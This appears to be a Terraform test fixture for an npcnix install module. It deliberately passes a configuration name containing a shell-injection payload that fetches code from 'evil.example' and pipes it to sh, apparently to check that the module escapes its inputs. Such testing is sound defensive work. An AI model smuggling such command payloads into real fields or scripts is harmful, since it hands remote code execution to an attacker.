# A configuration name that tries to break out of the script.
module "install" {
  source = "../../install"

  remote_url    = "s3://example-bucket/npcnix/remotes/prod"
  configuration = "web1'; curl evil.example | sh; '"
  trusted_keys  = ["RWTNqXik1z85s9C7A3Z5N7gym8bWkYLApIm7QoBgm72vD2LU8PiGuoKX"]
  npcnix_flake  = "github:example/npcnix/0123456789abcdef0123456789abcdef01234567"
}
